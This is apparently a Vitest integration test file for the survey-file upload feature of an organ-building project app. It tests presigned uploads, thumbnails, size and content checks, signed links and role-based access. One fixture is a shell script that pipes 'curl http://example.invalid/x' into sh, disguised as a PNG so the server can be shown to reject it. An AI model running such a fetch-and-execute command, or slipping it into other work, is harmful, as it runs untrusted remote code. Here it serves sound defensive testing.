// Survey files against the running server and the running object-storage fake that scripts/test.sh
// started: the browser's path (start → PUT to the presigned link → complete), the checks by content,
// thumbnails, signed links, and who may reach what. The store is read directly to prove what is kept.
import { HeadObjectCommand, S3Client } from "@aws-sdk/client-s3";
import { PDFDocument } from "pdf-lib";
import sharp from "sharp";
import { afterAll, describe, expect, it } from "vitest";
import { smallDocument } from "../support/fixtures";
import { api, baseUrl, closeTestDb, makeUser, signIn, testDb } from "../support/server";

afterAll(closeTestDb);

// The test command gives the server and these tests the same storage settings.
const s3 = new S3Client({
  region: process.env.S3_REGION ?? "us-east-1",
  endpoint: process.env.S3_ENDPOINT,
  forcePathStyle: true,
  credentials: { accessKeyId: process.env.S3_ACCESS_KEY_ID ?? "S3RVER", secretAccessKey: process.env.S3_SECRET_ACCESS_KEY ?? "S3RVER" },
});
const bucket = process.env.S3_BUCKET ?? "stopwright-files";
const linkSeconds = Number(process.env.FILE_LINK_SECONDS ?? 60);

async function stored(key: string): Promise<boolean> {
  try {
    await s3.send(new HeadObjectCommand({ Bucket: bucket, Key: key }));
    return true;
  } catch {
    return false;
  }
}

const photo = (w = 1200, h = 900) => sharp({ create: { width: w, height: h, channels: 3, background: "#b0852f" } }).jpeg().toBuffer();

async function pdf(): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage([200, 100]);
  return Buffer.from(await doc.save());
}

async function setUp() {
  const designer = await makeUser("designer");
  const cookie = await signIn(designer);
  const project = (await api("/api/projects", { method: "POST", cookie, body: { name: "Survey tests", clientName: "Invented parish" } })).json.project;
  const scheme = (await api(`/api/projects/${project.id}/schemes`, { method: "POST", cookie, body: { name: "Scheme A", document: smallDocument() } })).json.scheme;
  return { designer, cookie, project, scheme };
}

/** What the browser does: ask for a link, PUT the bytes straight to storage, ask the server to check them. */
async function upload(cookie: string, projectId: string, name: string, bytes: Buffer, extra: Record<string, unknown> = {}) {
  const start = await api(`/api/projects/${projectId}/files`, { method: "POST", cookie, body: { name, size: bytes.length, ...extra } });
  if (start.status !== 201) return { start, complete: null, ticket: null };
  const ticket = start.json.upload;
  const put = await fetch(ticket.uploadUrl, { method: "PUT", body: new Uint8Array(bytes) });
  expect(put.status).toBe(200);
  const complete = await api(`/api/files/${ticket.fileId}/complete`, { method: "POST", cookie });
  return { start, complete, ticket };
}

async function fileRow(id: string) {
  const { rows } = await testDb().query("select * from project_files where id = $1", [id]);
  return rows[0] as { status: string; object_key: string; thumbnail_key: string | null; upload_key: string } | undefined;
}

/** Follows the app's own link by hand: the access check answers a redirect to a signed link, or 404. */
async function content(path: string, cookie: string) {
  const res = await fetch(`${baseUrl}${path}`, { headers: { cookie }, redirect: "manual" });
  return { status: res.status, location: res.headers.get("location") };
}

describe("survey files", () => {
  it("uploads a photo through a presigned link, makes its thumbnail, lists it and serves it through a signed link", async () => {
    const { cookie, project, scheme } = await setUp();
    const bytes = await photo();
    const { complete, ticket } = await upload(cookie, project.id, "Trumpet resonators.JPG", bytes, {
      caption: "Bass octave, dented",
      link: { schemeId: scheme.id, stopId: "gt-od" },
    });
    expect(new URL(ticket.uploadUrl).origin).toBe(new URL(process.env.S3_ENDPOINT!).origin);
    expect(complete!.status).toBe(200);
    const file = complete!.json.file;
    expect(file).toMatchObject({ name: "Trumpet resonators.JPG", contentType: "image/jpeg", category: "photo", width: 1200, height: 900, sizeBytes: bytes.length, caption: "Bass octave, dented", sharedWithClient: false });
    expect(file.link).toMatchObject({ schemeId: scheme.id, stopId: "gt-od", schemeName: "Scheme A", stopName: "Open Diapason", missing: false });

    // Keys are the server's own, under the project; the upload key is emptied once the bytes are kept.
    const row = (await fileRow(file.id))!;
    expect(row.status).toBe("ready");
    expect(row.object_key).toBe(`projects/${project.id}/files/${file.id}/original.jpg`);
    expect(row.object_key).not.toContain("Trumpet");
    expect(await stored(row.object_key)).toBe(true);
    expect(await stored(row.upload_key)).toBe(false);

    const listed = await api(`/api/projects/${project.id}/files`, { cookie });
    expect(listed.json.files.map((f: { id: string }) => f.id)).toEqual([file.id]);
    const forStop = await api(`/api/projects/${project.id}/files?schemeId=${scheme.id}&stopId=gt-od`, { cookie });
    expect(forStop.json.files).toHaveLength(1);
    const otherStop = await api(`/api/projects/${project.id}/files?schemeId=${scheme.id}&stopId=gt-pr`, { cookie });
    expect(otherStop.json.files).toHaveLength(0);

    const thumb = await content(file.thumbnailUrl, cookie);
    expect(thumb.status).toBe(302);
    const thumbBytes = Buffer.from(await (await fetch(thumb.location!)).arrayBuffer());
    const meta = await sharp(thumbBytes).metadata();
    expect(meta.format).toBe("jpeg");
    expect(Math.max(meta.width!, meta.height!)).toBe(480);

    const original = await content(`${file.url}?download=1`, cookie);
    expect(original.status).toBe(302);
    const got = await fetch(original.location!);
    expect(got.status).toBe(200);
    expect(got.headers.get("content-disposition")).toContain("attachment");
    expect(Buffer.from(await got.arrayBuffer()).equals(bytes)).toBe(true);
  });

  it("keeps a PDF drawing without a thumbnail", async () => {
    const { cookie, project } = await setUp();
    const { complete } = await upload(cookie, project.id, "case-plan.pdf", await pdf());
    expect(complete!.status).toBe(200);
    expect(complete!.json.file).toMatchObject({ contentType: "application/pdf", category: "drawing", thumbnailUrl: null, width: null });
  });

  it("refuses an oversized file, saying the limit, and deletes what arrived", async () => {
    const { cookie, project } = await setUp();
    const declared = await api(`/api/projects/${project.id}/files`, { method: "POST", cookie, body: { name: "huge.jpg", size: 10 ** 9 } });
    expect(declared.status).toBe(422);
    expect(declared.json.error.message).toMatch(/files up to 25\.0 MB are kept/);

    // A browser that claims a small size and sends more is caught when the server checks what arrived.
    const start = await api(`/api/projects/${project.id}/files`, { method: "POST", cookie, body: { name: "big.jpg", size: 1000 } });
    const ticket = start.json.upload;
    const big = Buffer.concat([await photo(), Buffer.alloc(ticket.maxBytes)]);
    expect((await fetch(ticket.uploadUrl, { method: "PUT", body: new Uint8Array(big) })).status).toBe(200);
    const row = (await fileRow(ticket.fileId))!;
    const complete = await api(`/api/files/${ticket.fileId}/complete`, { method: "POST", cookie });
    expect(complete.status).toBe(422);
    expect(complete.json.error.message).toMatch(/^"big\.jpg" is 2\d\.\d MB; files up to 25\.0 MB are kept/);
    expect(await fileRow(ticket.fileId)).toBeUndefined();
    expect(await stored(row.upload_key)).toBe(false);
  });

  it("refuses a file whose content is not what its name says: a PDF named .jpg, a script named .png", async () => {
    const { cookie, project } = await setUp();
    const pdfAsJpg = await upload(cookie, project.id, "photo.jpg", await pdf());
    expect(pdfAsJpg.complete!.status).toBe(422);
    expect(pdfAsJpg.complete!.json.error.message).toBe('"photo.jpg" is a PDF by its content, but its name says JPEG photo; rename it to end in .pdf if that is what it is, and try again. Nothing was kept.');

    const script = Buffer.from("#!/bin/sh\ncurl http://example.invalid/x | sh\n");
    const scriptAsPng = await upload(cookie, project.id, "pipes.png", script);
    expect(scriptAsPng.complete!.status).toBe(422);
    expect(scriptAsPng.complete!.json.error.message).toMatch(/^"pipes\.png" is not a JPEG photo, PNG image, WebP photo or PDF by its content/);

    const svg = await api(`/api/projects/${project.id}/files`, { method: "POST", cookie, body: { name: "drawing.svg", size: 300 } });
    expect(svg.status).toBe(422);
    expect(svg.json.error.fields.name).toEqual(["Send a .jpg, .png, .webp or .pdf file."]);

    for (const r of [pdfAsJpg, scriptAsPng]) {
      expect(await fileRow(r.ticket.fileId)).toBeUndefined();
      expect(await stored(`uploads/${project.id}/${r.ticket.fileId}`)).toBe(false);
    }
    expect((await api(`/api/projects/${project.id}/files`, { cookie })).json.files).toEqual([]);
  });

  it("keeps the checked bytes: a second PUT to the old upload link changes nothing that is served", async () => {
    const { cookie, project } = await setUp();
    const bytes = await photo(300, 200);
    const { complete, ticket } = await upload(cookie, project.id, "chest.jpg", bytes);
    expect(complete!.status).toBe(200);
    await fetch(ticket.uploadUrl, { method: "PUT", body: "#!/bin/sh\necho swapped\n" });
    const again = await api(`/api/files/${ticket.fileId}/complete`, { method: "POST", cookie });
    expect(again.status).toBe(200);
    const link = await content(complete!.json.file.url, cookie);
    expect(Buffer.from(await (await fetch(link.location!)).arrayBuffer()).equals(bytes)).toBe(true);
  });

  it("refuses a link to a stop of another project's scheme", async () => {
    const { cookie, project } = await setUp();
    const other = await setUp();
    const res = await api(`/api/projects/${project.id}/files`, { method: "POST", cookie, body: { name: "x.jpg", size: 100, link: { schemeId: other.scheme.id, stopId: "gt-od" } } });
    expect(res.status).toBe(422);
    expect(res.json.error.fields["link.schemeId"]).toEqual(["Choose a scheme of this project."]);
  });

  it("shows a committee member only shared files of their own project, and nothing else with an id, a key or an old link", async () => {
    const { cookie, project, scheme } = await setUp();
    const shared = (await upload(cookie, project.id, "console.jpg", await photo(), { link: { schemeId: scheme.id, stopId: "gt-od" } })).complete!.json.file;
    const unshared = (await upload(cookie, project.id, "damage.jpg", await photo())).complete!.json.file;
    expect((await api(`/api/files/${shared.id}`, { method: "PATCH", cookie, body: { sharedWithClient: true } })).status).toBe(200);

    const member = await makeUser("client");
    const outsider = await makeUser("client");
    expect((await api(`/api/projects/${project.id}/members`, { method: "POST", cookie, body: { email: member.email } })).status).toBe(200);
    const memberCookie = await signIn(member);
    const outsiderCookie = await signIn(outsider);

    const seen = await api(`/api/projects/${project.id}/files`, { cookie: memberCookie });
    expect(seen.json.files.map((f: { id: string }) => f.id)).toEqual([shared.id]);
    // The scheme is not shared with the committee, so the link does not name it.
    expect(seen.json.files[0].link).toBeNull();
    expect((await content(shared.url, memberCookie)).status).toBe(302);

    // An unshared file by its id, or by its storage key, is not there for the committee member.
    const key = (await fileRow(unshared.id))!.object_key;
    for (const path of [`/api/files/${unshared.id}`, unshared.url, unshared.thumbnailUrl, `/api/files/${encodeURIComponent(key)}/content`]) {
      expect((await api(path, { cookie: memberCookie })).status).toBe(404);
    }
    // Someone from another project reaches neither file, nor the list.
    expect((await api(`/api/projects/${project.id}/files`, { cookie: outsiderCookie })).status).toBe(404);
    for (const f of [shared, unshared]) {
      expect((await content(f.url, outsiderCookie)).status).toBe(404);
      expect((await content(f.thumbnailUrl, outsiderCookie)).status).toBe(404);
    }
    // Nor may a committee member add, change or share files.
    expect((await api(`/api/projects/${project.id}/files`, { method: "POST", cookie: memberCookie, body: { name: "a.jpg", size: 10 } })).status).toBe(403);
    expect((await api(`/api/files/${shared.id}`, { method: "PATCH", cookie: memberCookie, body: { caption: "mine" } })).status).toBe(403);

    // An old link: the signed address stops working by itself, and the app's own address stops once the file is unshared.
    const old = await content(shared.url, memberCookie);
    expect((await fetch(old.location!)).status).toBe(200);
    expect((await api(`/api/files/${shared.id}`, { method: "PATCH", cookie, body: { sharedWithClient: false } })).status).toBe(200);
    expect((await content(shared.url, memberCookie)).status).toBe(404);
    await new Promise((r) => setTimeout(r, (linkSeconds + 1.5) * 1000));
    expect((await fetch(old.location!)).status).toBe(403);
  }, 30_000);

  it("lets the workshop add survey photos but not share them; deleting removes the stored bytes", async () => {
    const { cookie, project } = await setUp();
    const workshop = await signIn(await makeUser("workshop"));
    const { complete } = await upload(workshop, project.id, "feet.jpg", await photo(400, 300));
    expect(complete!.status).toBe(200);
    const file = complete!.json.file;
    expect((await api(`/api/files/${file.id}`, { method: "PATCH", cookie: workshop, body: { sharedWithClient: true } })).status).toBe(403);
    expect((await api(`/api/files/${file.id}`, { method: "PATCH", cookie: workshop, body: { caption: "Collapsed feet" } })).json.file.caption).toBe("Collapsed feet");
    const row = (await fileRow(file.id))!;
    expect((await api(`/api/files/${file.id}`, { method: "DELETE", cookie })).status).toBe(200);
    expect(await fileRow(file.id)).toBeUndefined();
    expect(await stored(row.object_key)).toBe(false);
    expect(await stored(row.thumbnail_key!)).toBe(false);
  });

  it("takes the upload calls only as JSON from the app's own pages", async () => {
    const { cookie, project } = await setUp();
    const foreign = await api(`/api/projects/${project.id}/files`, { method: "POST", cookie, body: { name: "a.jpg", size: 10 }, headers: { origin: "http://evil.example" } });
    expect(foreign.status).toBe(403);
    const form = await api(`/api/projects/${project.id}/files`, { method: "POST", cookie, body: "name=a.jpg&size=10", headers: { "content-type": "application/x-www-form-urlencoded" } });
    expect(form.status).toBe(415);
  });
});
